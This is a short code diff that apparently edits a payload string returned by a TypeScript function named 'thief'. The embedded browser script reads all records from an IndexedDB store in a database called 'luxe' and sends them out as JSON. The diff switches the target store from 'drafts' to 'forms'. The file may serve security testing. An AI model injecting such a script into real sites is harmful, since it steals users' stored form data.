@@ -18,7 +18,7 @@ function thief(origin: string): string {
     send('runs at ' + window.origin);
     const opening = indexedDB.open('luxe');
     opening.onsuccess = () => {
-      const reading = opening.result.transaction('drafts').objectStore('drafts').getAll();
+      const reading = opening.result.transaction('forms').objectStore('forms').getAll();
       reading.onsuccess = () => send(JSON.stringify(reading.result));
     };
   })();`;
